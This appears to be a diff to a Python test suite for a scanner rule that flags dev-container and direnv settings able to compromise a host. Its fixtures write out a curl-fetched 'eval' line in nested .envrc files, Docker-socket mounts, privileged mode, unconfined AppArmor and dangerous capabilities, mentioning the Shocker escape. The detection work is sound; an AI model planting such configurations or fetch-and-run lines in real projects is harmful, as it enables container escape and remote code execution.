@@ -144,7 +144,7 @@ def test_fail_devcontainers_that_can_take_the_host(machine):
         indent=2))
     machine.ws(".devcontainer/devcontainer.json", json.dumps({
         "dockerComposeFile": "compose.yml", "service": "app",
-        "securityOpt": ["seccomp=unconfined"]}, indent=2))
+        "securityOpt": ["systempaths=unconfined"]}, indent=2))
     machine.ws(".devcontainer/compose.yml", "services:\n  app:\n    image: x\n"
                "    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"
                "  db:\n    image: pg\n    privileged: true\n")
@@ -162,7 +162,7 @@ def test_fail_devcontainers_that_can_take_the_host(machine):
         (".devcontainer/gpu/devcontainer.json",
          "its container can take the host: the Docker socket is mounted into it"),
         (".devcontainer/devcontainer.json",
-         "its container can take the host: securityOpt holds seccomp=unconfined"),
+         "its container can take the host: securityOpt holds systempaths=unconfined"),
         (".devcontainer/compose.yml", "service 'app' can take the host: the Docker socket is "
          "mounted into it"),
         (".devcontainer/compose.yml", "service 'db' can take the host: privileged is true")])
@@ -176,6 +176,46 @@ def test_pass_an_ordinary_devcontainer(machine):
         "postCreateCommand": "pip install -e .", "runArgs": ["--cap-add=SYS_PTRACE"],
         "mounts": ["source=cache,target=/cache,type=volume"]}))
     assert machine.run("AGT009").status is Status.PASS
+
+
+def test_a_debugger_template_without_the_seccomp_filter_is_advice(machine):
+    """cli/cli's devcontainer (the Go template): SYS_PTRACE and `--security-opt
+    seccomp=unconfined`, for delve. Without Docker's system-call filter the container
+    reaches more of the kernel, but keeps its namespaces, capabilities and AppArmor
+    profile: advice, in runArgs, `securityOpt` and a Compose service alike. The same
+    template with a host capability, the AppArmor profile off or /proc unmasked still
+    fails."""
+    import json
+
+    machine.ws(".devcontainer/devcontainer.json", json.dumps({
+        "image": "mcr.microsoft.com/devcontainers/go:1.22",
+        "runArgs": ["--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined"]},
+        indent=2))
+    machine.ws(".devcontainer/cpp/devcontainer.json", json.dumps({
+        "dockerComposeFile": "compose.yml", "service": "dev",
+        "capAdd": ["SYS_PTRACE"], "securityOpt": ["seccomp:unconfined"]}, indent=2))
+    machine.ws(".devcontainer/cpp/compose.yml", "services:\n  dev:\n    image: x\n"
+               "    security_opt:\n      - seccomp=unconfined\n")
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and out.advisory, out
+    assert sorted(e.detail.split(": the container")[0] for e in out.evidence) == [
+        "its container is less confined: runArgs hold --security-opt seccomp=unconfined",
+        "its container is less confined: securityOpt holds seccomp:unconfined",
+        "service 'dev' is less confined: security_opt holds seccomp=unconfined"]
+    for extra, said in ((["--cap-add=SYS_ADMIN"], "runArgs add the capability SYS_ADMIN"),
+                        (["--security-opt=apparmor=unconfined"],
+                         "runArgs hold --security-opt apparmor=unconfined"),
+                        (["--security-opt", "systempaths=unconfined"],
+                         "runArgs hold --security-opt systempaths=unconfined"),
+                        (["--privileged"], "runArgs hold --privileged")):
+        machine.ws(".devcontainer/devcontainer.json", json.dumps({
+            "image": "mcr.microsoft.com/devcontainers/go:1.22",
+            "runArgs": ["--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined",
+                        *extra]}, indent=2))
+        out = machine.run("AGT009")
+        assert out.status is Status.FAIL and not out.advisory, (extra, out)
+        assert f"its container can take the host: {said}" in [
+            e.detail for e in out.evidence], (extra, out.evidence)
 
 
 def test_a_hook_manager_dependency_with_its_configuration_is_judged_by_its_hooks(machine):
@@ -295,3 +335,55 @@ def test_envrc_is_judged_by_what_it_runs(machine):
         assert any(needle in e.detail for e in out.evidence), (envrc, out)
     machine.ws(".envrc.local", b"\xff\xfe\x00 not text")
     assert machine.run("AGT009").status is Status.UNKNOWN
+
+
+def test_nested_envrc_is_judged_where_direnv_enters(machine):
+    """direnv runs the `.envrc` of whatever directory a shell enters: one under
+    packages/x/ (or in test data: direnv obeys it there too) that sources a sibling which
+    runs a fetched string is a finding, its names relative to its own directory; a
+    benign nested one (`dotenv_if_exists`, `watch_file`) is advice. The old rule read only
+    the top's `.envrc`; the catalogue's direnv-envrc names `**/.envrc`."""
+    machine.ws("packages/x/.envrc", "watch_file package.json\ndotenv_if_exists\n")
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and out.advisory, out
+    assert [e.path for e in out.evidence] == ["packages/x/.envrc"]
+    for rel in ("packages/x/.envrc", "test/fixtures/app/.envrc"):
+        d = rel.rsplit("/", 1)[0]
+        machine.ws(f"{d}/env.sh", 'eval "$(curl -fsSL https://x.invalid/env)"\n')
+        machine.ws(rel, "source_env env.sh\nPATH_add bin\n")
+        out = machine.run("AGT009")
+        assert out.status is Status.FAIL and not out.advisory, (rel, out)
+        details = {(e.path, e.detail.split(",")[0][:40]) for e in out.evidence}
+        assert (f"{d}/env.sh", f"{rel} (run when direnv enters the folder)"[:40]) in \
+            details, out.evidence
+        assert any(e.path == rel and "first on PATH" in e.detail for e in out.evidence)
+        machine.ws(rel, "dotenv_if_exists\n")
+    machine.ws("node_modules/pkg/.envrc", 'eval "$(curl -fsSL https://x.invalid/e)"\n')
+    out = machine.run("AGT009")
+    assert not any("node_modules" in (e.path or "") for e in out.evidence), out
+
+
+def test_fail_host_capabilities_and_options_the_old_lists_missed(machine):
+    """CAP_DAC_READ_SEARCH lets a container open any host file by handle (the Shocker
+    escape), CAP_SYS_RAWIO reaches devices and ports; `--security-opt
+    apparmor=unconfined` in runArgs drops the profile as `securityOpt` does, and a
+    compose service may add them in lower case. The old rule's HOST_CAPS and its
+    `securityOpt`-only check passed all three; the catalogue's devcontainer entries judge
+    them with one vocabulary."""
+    import json
+
+    machine.ws(".devcontainer/devcontainer.json", json.dumps({
+        "dockerComposeFile": ["compose.yml"], "service": "app",
+        "capAdd": ["DAC_READ_SEARCH"], "runArgs": ["--security-opt", "apparmor=unconfined"]},
+        indent=2))
+    machine.ws(".devcontainer/compose.yml", "services:\n  app:\n    image: x\n"
+               "    cap_add:\n      - sys_rawio\n")
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and not out.advisory, out
+    assert sorted((e.path, e.detail) for e in out.evidence) == [
+        (".devcontainer/compose.yml", "service 'app' can take the host: cap_add holds "
+         "sys_rawio"),
+        (".devcontainer/devcontainer.json", "its container can take the host: capAdd holds "
+         "DAC_READ_SEARCH"),
+        (".devcontainer/devcontainer.json", "its container can take the host: runArgs hold "
+         "--security-opt apparmor=unconfined")], out.evidence
